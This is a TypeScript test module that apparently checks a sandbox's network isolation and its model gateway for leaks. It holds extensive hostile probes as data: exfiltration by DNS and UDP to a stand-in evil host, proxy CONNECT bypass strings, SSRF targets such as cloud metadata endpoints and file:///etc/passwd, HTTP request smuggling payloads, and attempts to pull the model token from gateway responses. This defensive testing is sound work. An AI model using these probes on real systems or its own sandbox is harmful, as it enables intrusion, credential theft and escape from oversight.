// Looks for a way to the network that no rule names: without the proxy, then by every trick with the proxy.
import dgram from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { connect, isIPv6 } from 'node:net';
import { networkInterfaces } from 'node:os';
import { connect as tlsConnect } from 'node:tls';
import { abuse, control, lootIn } from './trial.ts';

const PROXY_PORT = 3128;
const GATEWAY_PORT = 4000;
const HOST_ADDRESSES = (process.env.ABUSE_HOST_ADDRESSES ?? '').split(',');
const HOST_PORT = Number(process.env.ABUSE_HOST_PORT);
const NOWHERE = [
  '127.0.0.2',
  '127.0.0.11',
  '::1',
  '172.17.0.1',
  '10.0.0.1',
  '192.168.0.1',
  '100.100.100.200',
  '169.254.169.254',
  '169.254.170.2',
  'fd00:ec2::254',
  'fe80::1',
  '8.8.8.8',
  '2001:4860:4860::8888',
];
const RESOLVERS = ['8.8.8.8', '127.0.0.11', '127.0.0.53', '172.17.0.1', '2001:4860:4860::8888'];

export async function network(): Promise<void> {
  await control('a host that is listed, through a tunnel', () =>
    tunnelled('api.example.com:443', 'api.example.com'),
  );
  await control('a host with methods, by a request', () =>
    first(http('GET', 'http://files.example.com/in', 'files.example.com')).then(ok),
  );
  await abuse('a device beside loopback', () =>
    Object.keys(networkInterfaces()).find((name) => name !== 'lo'),
  );
  const direct = [...NOWHERE, ...HOST_ADDRESSES].flatMap((host) => [
    [host, HOST_PORT],
    [host, 443],
  ]) as [string, number][];
  for (const [host, port] of direct)
    await abuse(`connecting to ${host} port ${port}`, () => dialled(host, port));
  for (const port of [22, 80, 2375, 4001, 6379])
    await abuse(`loopback port ${port}`, () => dialled('127.0.0.1', port));
  for (const resolver of RESOLVERS) {
    await abuse(`asking the resolver ${resolver}`, () => lookedUp(resolver));
    await abuse(`a datagram to ${resolver}`, () => datagram(resolver));
  }
  await abuse('a name by the system', async () =>
    (await import('node:dns/promises')).lookup('loot.evil.example.org'),
  );
  await tunnels();
  await requests();
  await insideTunnels();
  await gateway();
}

const dialled = (host: string, port: number): Promise<string> =>
  new Promise((resolve, reject) => {
    const socket = connect({ host, port, timeout: 1_000 }, () => resolve(`connected to ${host}`));
    socket.on('connect', () => socket.destroy()).on('error', reject);
    socket.on('timeout', () => socket.destroy(new Error('timed out')));
  });

async function lookedUp(server: string): Promise<string | undefined> {
  const resolver = new Resolver({ timeout: 300, tries: 1 });
  resolver.setServers([isIPv6(server) ? `[${server}]:53` : `${server}:53`]);
  return (await resolver.resolve4('loot.evil.example.org'))[0];
}

/** UDP has no answer to wait for: that the kernel took it is enough. */
const datagram = (host: string): Promise<string | undefined> =>
  new Promise((resolve, reject) => {
    const socket = dgram.createSocket(isIPv6(host) ? 'udp6' : 'udp4');
    socket.on('error', reject);
    socket.send('loot', 53, host, (error) => {
      socket.close();
      // Loopback takes it and gives it to nobody.
      if (error) reject(error);
      else resolve(host.startsWith('127.') ? undefined : 'sent');
    });
  });

/** What the proxy says first to these bytes, and all that follows within a moment or until it hangs up. */
function said(bytes: string, port = PROXY_PORT): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1', () => socket.write(bytes, 'latin1'));
    let text = '';
    const end = () => resolve(text);
    socket.setTimeout(700, () => socket.destroy());
    socket.on('data', (chunk) => {
      text += chunk.toString('latin1');
      if (isWhole(text)) socket.destroy();
    });
    socket.on('close', end).on('error', reject);
  });
}

/** A head and, where its length is known, its body: nothing else will come that matters here. */
function isWhole(text: string): boolean {
  const head = text.indexOf('\r\n\r\n');
  if (head < 0) return false;
  const length = /content-length: (\d+)/i.exec(text)?.[1];
  return length !== undefined && text.length >= head + 4 + Number(length);
}

const first = async (bytes: string, port?: number): Promise<string> =>
  (await said(bytes, port)).split('\r\n')[0] ?? '';
const ok = (line: string): string | undefined => (/^HTTP\/1\.1 2\d\d/.test(line) ? line : undefined);

const http = (method: string, target: string, host: string, more = ''): string =>
  `${method} ${target} HTTP/1.1\r\nhost: ${host}\r\n${more}connection: close\r\n\r\n`;
const tunnelTo = (authority: string): string => `CONNECT ${authority} HTTP/1.1\r\nhost: ${authority}\r\n\r\n`;

/** None of these is `api.example.com:443`; where one is let through it must lead nowhere else, which the host's side checks. */
const AUTHORITIES = [
  'evil.example.org:443',
  'loot.api.example.com:443',
  'api.example.com.evil.example.org:443',
  'notapi.example.com:443',
  'example.com:443',
  'api.example.com:22',
  'api.example.com:80',
  'api.example.com:8443',
  'api.example.com:0443',
  'api.example.com:65979',
  'api.example.com',
  'api.example.com:',
  'api.example.com:443:443',
  'api.example.com@evil.example.org:443',
  'evil.example.org@api.example.com:443',
  'api.example.com:443@evil.example.org:443',
  'evil.example.org#@api.example.com:443',
  'evil.example.org/api.example.com:443',
  'evil.example.org?api.example.com:443',
  'evil.example.org\\api.example.com:443',
  'api.example.com%00.evil.example.org:443',
  'api%2eexample%2ecom:443',
  'api.example.com\x00.evil.example.org:443',
  'api.example.com\t:443',
  '\xef\xbd\x81pi.example.com:443',
  'xn--pi-example-com.example.org:443',
  'http://api.example.com:443',
  '//api.example.com:443',
  '2130706433:443',
  '0x7f000001:443',
  '0x7f.1:443',
  '017700000001:443',
  '0177.0.0.1:443',
  '127.1:443',
  '127.0.0.1:443',
  '0:443',
  '0.0.0.0:443',
  'localhost:443',
  'localhost.localdomain:443',
  'ip6-localhost:443',
  '1.1.1.1:443',
  '1.1.1.1.:443',
  '10.0.0.7:443',
  '169.254.169.254:80',
  '2852039166:443',
  '0xa9fea9fe:443',
  '0251.0376.0251.0376:443',
  'metadata.google.internal:443',
  'instance-data.ec2.internal:443',
  'host.docker.internal:443',
  'gateway.docker.internal:443',
  '[::1]:443',
  '[::]:443',
  '[::ffff:127.0.0.1]:443',
  '[::ffff:7f00:1]:443',
  '[::ffff:a9fe:a9fe]:443',
  '[64:ff9b::a9fe:a9fe]:443',
  '[fd00:ec2::254]:443',
  '[fe80::1%25lo]:443',
  '[2002:7f00:1::]:443',
  'inside.example.com:443',
  'files.example.com:443',
];

async function tunnels(): Promise<void> {
  for (const authority of AUTHORITIES)
    await abuse(`CONNECT ${JSON.stringify(authority)}`, async () => ok(await first(tunnelTo(authority))));
}

const GET = 'http://files.example.com/in';
const FILES = 'files.example.com';
/** On a host of which GET alone is allowed. */
const REQUESTS: readonly (readonly [what: string, bytes: string])[] = [
  ['another Host behind an allowed target', http('GET', GET, 'evil.example.org')],
  ['an allowed Host behind another target', http('GET', 'http://evil.example.org/', FILES)],
  ['two Hosts', http('GET', GET, FILES, 'Host: evil.example.org\r\n')],
  ['no target but a path', http('GET', '/in', FILES)],
  ['userinfo before another host', http('GET', 'http://files.example.com@evil.example.org/', FILES)],
  ['userinfo with a colon', http('GET', 'http://files.example.com:80@evil.example.org/', FILES)],
  ['a backslash', http('GET', 'http://evil.example.org\\@files.example.com/', FILES)],
  ['a fragment', http('GET', 'http://evil.example.org#@files.example.com/', FILES)],
  ['a file', http('GET', 'file:///etc/passwd', FILES)],
  ['FTP', http('GET', 'ftp://files.example.com/in', FILES)],
  ['gopher', http('GET', 'gopher://127.0.0.1:6379/_INFO', FILES)],
  ['another port', http('GET', 'http://files.example.com:8080/in', 'files.example.com:8080')],
  ['metadata', http('GET', 'http://169.254.169.254/latest/meta-data/', '169.254.169.254')],
  ['metadata in one number', http('GET', 'http://2852039166/', '2852039166')],
  ['the proxy through itself', http('GET', 'http://127.0.0.1:3128/', '127.0.0.1:3128')],
  ['DELETE', http('DELETE', GET, FILES)],
  ['POST', http('POST', GET, FILES, 'content-length: 4\r\n')],
  ['a method in small letters', http('delete', GET, FILES)],
  ['TRACE', http('TRACE', GET, FILES)],
  ['OPTIONS of everything', http('OPTIONS', '*', FILES)],
  ['an upgrade', http('GET', GET, FILES, 'upgrade: h2c\r\n')],
  ['HTTP/2 by surprise', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
  ['HTTP/0.9', 'GET http://files.example.com/in\r\n'],
  ['a body with two lengths', http('GET', GET, FILES, 'content-length: 4\r\ntransfer-encoding: chunked\r\n')],
  ['two content lengths', http('GET', GET, FILES, 'content-length: 0\r\ncontent-length: 44\r\n')],
  ['a length with a sign', http('GET', GET, FILES, 'content-length: +0\r\n')],
  ['an odd coding', http('GET', GET, FILES, 'transfer-encoding: xchunked\r\n')],
  ['a coding behind a tab', http('GET', GET, FILES, 'transfer-encoding:\tchunked\r\n')],
  ['a blank before the colon', http('GET', GET, FILES, 'content-length : 4\r\n')],
  ['a folded header', http('GET', GET, FILES, 'x: a\r\n transfer-encoding: chunked\r\n')],
  ['lines that end with a line feed alone', `GET ${GET} HTTP/1.1\nhost: ${FILES}\n\n`],
  ['a NUL in a header', http('GET', GET, FILES, 'x: a\0b\r\n')],
  ['a carriage return in a header', http('GET', GET, FILES, 'x: a\rcontent-length: 4\r\n')],
];
/** Let through as the plain request that they are: what rides behind must not be, which the host's side checks. */
const RIDES = [
  http('DELETE', 'http://files.example.com/behind', FILES),
  http('GET', 'http://evil.example.org/behind', 'evil.example.org'),
  tunnelTo('evil.example.org:443'),
];

async function requests(): Promise<void> {
  for (const [what, bytes] of REQUESTS) await abuse(`proxy: ${what}`, async () => ok(await first(bytes)));
  const keepOpen = `GET ${GET} HTTP/1.1\r\nhost: ${FILES}\r\n`;
  for (const ride of RIDES) {
    await abuse('proxy: a second request behind a first one', async () =>
      behind(await said(`${keepOpen}\r\n${ride}`)),
    );
    const body = `${keepOpen}content-length: ${ride.length}\r\n\r\n${ride}`;
    await abuse('proxy: a request as the body of another', async () => behind(await said(body)));
  }
  await abuse('proxy: a redirect that the proxy follows', async () => {
    const answer = await said(http('GET', 'http://files.example.com/elsewhere', FILES));
    return answer.startsWith('HTTP/1.1 302') ? undefined : answer;
  });
  const overrides = ['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'];
  await abuse('proxy: a method in a header', async () => {
    const answer = await said(
      http(
        'GET',
        'http://files.example.com/method',
        FILES,
        overrides.map((name) => `${name}: DELETE\r\n`).join(''),
      ),
    );
    return /DELETE/.exec(answer)?.[0];
  });
}

const behind = (answers: string): string | undefined =>
  /answer to \S*behind|200 Connection established/.exec(answers)?.[0];

async function insideTunnels(): Promise<void> {
  const api = 'api.example.com:443';
  await abuse('tunnel: another name in TLS', () => tunnelled(api, 'other.example.com'));
  await abuse('tunnel: no name in TLS', () => tunnelled(api, ''));
  await abuse('tunnel: HTTP without TLS', () => inTunnel(api, 'GET /behind HTTP/1.1\r\nhost: x\r\n\r\n'));
  await abuse('tunnel: a shell protocol', () => inTunnel(api, 'SSH-2.0-OpenSSH_9.2\r\n'));
  await abuse('tunnel: another CONNECT inside', () => inTunnel(api, tunnelTo('evil.example.org:443')));
}

function openTunnel(authority: string): Promise<import('node:net').Socket> {
  return new Promise((resolve, reject) => {
    const socket = connect(PROXY_PORT, '127.0.0.1', () => socket.write(tunnelTo(authority)));
    socket.once('error', reject);
    socket.once('data', (answer) => {
      if (answer.toString().startsWith('HTTP/1.1 200')) resolve(socket);
      else reject(new Error(answer.toString().split('\r\n')[0]));
    });
  });
}

async function tunnelled(authority: string, servername: string): Promise<string> {
  const socket = await openTunnel(authority);
  return await new Promise((resolve, reject) => {
    const secure = tlsConnect({ socket, servername, rejectUnauthorized: false }, () => {
      resolve(`TLS as ${servername}`);
      secure.destroy();
    });
    secure.on('error', reject);
    socket.on('close', () => reject(new Error('closed')));
  });
}

async function inTunnel(authority: string, bytes: string): Promise<string | undefined> {
  const socket = await openTunnel(authority);
  return await new Promise((resolve) => {
    let text = '';
    socket.on('data', (chunk) => {
      text += chunk.toString('latin1');
    });
    socket.on('close', () => resolve(/HTTP|SSH/.exec(text)?.[0])).on('error', () => socket.destroy());
    socket.write(bytes);
  });
}

/** Every answer and error page of the model gateway, read for the key. */
async function gateway(): Promise<void> {
  const token = process.env.GREENLIGHT_MODEL_TOKEN ?? '';
  const host = `127.0.0.1:${GATEWAY_PORT}`;
  const post = (target: string, more: string, body = '{}') =>
    `POST ${target} HTTP/1.1\r\nhost: ${host}\r\n${more}content-type: application/json\r\ncontent-length: ${body.length}\r\nconnection: close\r\n\r\n${body}`;
  const withToken = `x-api-key: ${token}\r\nauthorization: Bearer ${token}\r\n`;
  await control(
    'the gateway answers',
    async () => /^HTTP\/1\.1 \d+/.exec(await said(post('/v1/messages', withToken), GATEWAY_PORT))?.[0],
  );
  const asked: readonly (readonly [string, string])[] = [
    ['without a token', post('/v1/messages', '')],
    ['with a wrong token', post('/v1/messages', 'x-api-key: glt_wrong\r\n')],
    ['with a body that is no JSON', post('/v1/messages', withToken, '{')],
    ['for its echo', post('/v1/messages', withToken, process.env.ABUSE_ECHO_REQUEST)],
    ['for another path', post('/v1/organizations/keys', withToken)],
    ['for a path that climbs', post('/v1/messages/../organizations', withToken)],
    ['for a path in escapes', post('/v1/%2e%2e/admin', withToken)],
    ['for another host by its target', http('GET', 'http://evil.example.org/', host, withToken)],
    ['for a tunnel', tunnelTo('evil.example.org:443')],
    ['for another host by Host', http('GET', '/v1/models', 'evil.example.org', withToken)],
    [
      'to forward headers',
      http('GET', '/v1/models', host, `${withToken}x-forwarded-host: evil.example.org\r\n`),
    ],
    ['to trace', http('TRACE', '/v1/models', host, withToken)],
    ['with a malformed head', 'GET\r\n\r\n'],
  ];
  for (const [what, bytes] of asked)
    await abuse(`the key of the model, asked ${what}`, async () => lootIn(await said(bytes, GATEWAY_PORT)));
}
